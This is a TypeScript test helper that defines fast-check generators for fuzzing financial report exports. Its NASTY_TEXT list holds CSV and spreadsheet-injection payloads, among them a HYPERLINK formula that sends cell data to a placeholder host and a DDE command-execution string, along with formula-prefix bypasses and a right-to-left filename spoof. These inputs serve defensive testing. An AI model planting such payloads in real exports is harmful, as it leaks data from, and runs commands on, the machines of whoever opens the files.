/** fast-check generators for reports whose keys and names try to break every format. */
import fc from 'fast-check';
import type {
  Dimension,
  Figures,
  PlanRow,
  Ratios,
  Report,
  ReportRow,
  ReportTable,
} from '../../src/report/types.js';
import { sampleReport } from './sample-report.js';

/** The cases of bad-inputs.md I-4 and I-5, whole. */
export const NASTY_TEXT = [
  '=HYPERLINK("http://x?"&A1)',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  '=1\nx',
  ' =1',
  '\u3000=1',
  '\u00a0+1',
  'a,b',
  'say "hi"',
  'line\r\nbreak',
  'rtl \u202e gnp.exe',
  '\u001b[31mred',
  'pipe | in name',
  ' padded ',
  "'quoted",
  '',
] as const;

const SPECIAL_UNITS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '＝',
  '＋',
  '－',
  '＠',
  ' ',
  '\u3000',
  '"',
  ',',
  "'",
  '|',
  '\\',
  '*',
  '_',
  '<',
  'a',
  '1',
  '.',
  '中',
  '\u202e',
  '\u001b',
  '😀',
] as const;

export const text: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  fc.string({ unit: fc.constantFrom(...SPECIAL_UNITS), maxLength: 8 }),
  fc.constantFrom(...NASTY_TEXT),
);

/** Integer fen: small values around zero (and -0), and the whole safe range. */
export const fen: fc.Arbitrary<number> = fc.oneof(
  fc.integer({ min: -1_000, max: 1_000 }),
  fc.constant(-0),
  fc.integer({ min: Number.MIN_SAFE_INTEGER, max: Number.MAX_SAFE_INTEGER }),
);

const ratio: fc.Arbitrary<string | null> = fc.oneof(
  fc.constant(null),
  fc.constantFrom('0.0000', '-0.0000', '1.0000'),
  fc.stringMatching(/^-?[1-9]\d{0,5}\.\d{4}$/),
);

const figures: fc.Arbitrary<Figures> = fc.record({
  orders: fc.nat(),
  units: fc.nat(),
  gmv: fen,
  refunds: fen,
  net_gmv: fen,
  platform_fees: fen,
  commissions: fen,
  cogs: fen,
  shipping: fen,
  insurance: fen,
  contribution: fen,
  ad_spend: fen,
  fixed_costs: fen,
  net_profit: fen,
});

const ratios: fc.Arbitrary<Ratios> = fc.record({
  roi: ratio,
  net_roi: ratio,
  breakeven_roi: ratio,
  poas: ratio,
  margin: ratio,
  refund_rate: ratio,
});

const reportRow: fc.Arbitrary<ReportRow> = fc.record({
  key: text,
  name: fc.option(text),
  figures,
  ratios,
});

const planRow: fc.Arbitrary<PlanRow> = fc.record({
  key: text,
  name: fc.option(text),
  ad_spend: fen,
  gmv: fen,
  roi: ratio,
});

const figureTable = (by: Exclude<Dimension, 'plan'>): fc.Arbitrary<ReportTable> =>
  fc.record({ by: fc.constant(by), rows: fc.array(reportRow, { maxLength: 6 }), totals: reportRow });

const planTable: fc.Arbitrary<ReportTable> = fc.record({
  by: fc.constant('plan' as const),
  rows: fc.array(planRow, { maxLength: 6 }),
  totals: planRow,
});

export const table: fc.Arbitrary<ReportTable> = fc.oneof(
  figureTable('channel'),
  figureTable('sku'),
  figureTable('author'),
  figureTable('day'),
  planTable,
);

/** The sample report's frame (settings, inputs) with random totals and tables. */
export const report: fc.Arbitrary<Report> = fc
  .record({ totals: reportRow, tables: fc.array(table, { minLength: 1, maxLength: 3 }) })
  .map(({ totals, tables }) => ({ ...sampleReport(), totals, tables }));
